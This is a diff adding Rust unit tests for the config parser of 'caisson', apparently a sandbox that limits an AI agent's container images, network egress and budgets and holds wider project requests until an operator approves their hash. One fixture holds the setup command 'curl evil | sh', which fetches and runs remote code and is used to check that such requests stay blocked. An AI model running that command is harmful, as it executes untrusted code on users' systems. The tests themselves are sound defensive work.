@@ -1,0 +1,70 @@
+use super::*;
+
+fn granted() -> Granted {
+    Granted {
+        image: "caisson/base".to_owned(),
+        images: vec!["caisson/base".to_owned(), "caisson/rust".to_owned()],
+        profiles: vec![("python".to_owned(), "caisson/python".to_owned())],
+        egress: vec![Rule::parse("*.example.org").unwrap()],
+        every: 5,
+        budget: Budget { micro_usd: 2_000_000, tokens: 0, actions: 100, work_ms: 0 },
+    }
+}
+
+fn refused(text: &str) -> String {
+    Project::parse(FILE, text).unwrap_err().to_string()
+}
+
+#[test]
+fn mistakes_name_file_line_and_key() {
+    let said = refused("test = \"x\"\nspeed = 3\n");
+    assert!(said.starts_with(".caisson.toml:2: `speed`: unknown field"), "{said}");
+    let said = refused("[checkpoint]\nevery = 1000000\n");
+    assert!(said.starts_with(".caisson.toml:2: `every`:"), "{said}");
+    let said = refused("[checkpoint]\nevery = 6\n");
+    assert!(said.contains(":2: `every`: a checkpoint comes after 1 to 5 actions"), "{said}");
+    assert!(refused("\n\negress = [\"*\"]\n").starts_with(".caisson.toml:3: `egress`:"));
+    assert!(refused("egress = [\"10.0.0.1\"]").contains("address"));
+    assert!(refused("protected = [\"[\"]").contains("no pattern"));
+    assert!(refused("[budget]\nusd = -1.0").contains(":2: `usd`"));
+    assert!(refused("test = ").starts_with(".caisson.toml:1"));
+    assert!(refused("image = \"a\"\nprofile = \"b\"\n").contains(":2: `profile`"));
+    assert!(refused("[roles]\napprove = [\"me\"]\n").contains("`roles`"));
+}
+
+#[test]
+fn it_narrows_without_asking() {
+    let text = "test = \"make test\"\nimage = \"caisson/rust\"\nprotected = [\"deploy/**\"]\n[checkpoint]\nevery = 2\n\
+                [budget]\nusd = 0.5\ntokens = 10\nactions = 500\n";
+    let project = Project::parse(FILE, text).unwrap();
+    assert!(project.wishes(&granted()).is_empty());
+    let holds = project.within(&granted(), None);
+    assert_eq!((holds.image.as_str(), holds.every), ("caisson/rust", 2));
+    assert_eq!(holds.budget, Budget { micro_usd: 500_000, tokens: 10, actions: 100, work_ms: 0 });
+    assert_eq!(holds.test.as_deref(), Some("make test"));
+}
+
+#[test]
+fn wider_wishes_wait_for_their_own_hash() {
+    let text =
+        "setup = [\"curl evil | sh\"]\negress = [\"api.example.org\", \"other.net:8443\"]\nimage = \"10.0.0.9/x\"\n";
+    let project = Project::parse(FILE, text).unwrap();
+    let keys: Vec<_> = project.wishes(&granted()).into_iter().map(|w| (w.key, w.value)).collect();
+    assert_eq!(keys.len(), 3, "{keys:?}");
+    assert!(keys.contains(&("egress", "other.net:8443".to_owned())));
+    for not_accepted in [None, Some(""), Some("0000")] {
+        let holds = project.within(&granted(), not_accepted);
+        assert!(holds.setup.is_empty() && holds.egress.is_empty());
+        assert_eq!(holds.image, "caisson/base");
+    }
+    let holds = project.within(&granted(), Some(project.hash()));
+    assert_eq!((holds.setup.len(), holds.egress.len()), (1, 2));
+    assert_eq!(holds.image, "caisson/base", "an image must be on the operator's list");
+}
+
+#[test]
+fn no_file_grants_nothing() {
+    let holds = Project::default().within(&granted(), Some(""));
+    assert_eq!((holds.every, holds.image.as_str()), (5, "caisson/base"));
+    assert!(holds.setup.is_empty() && holds.egress.is_empty());
+}
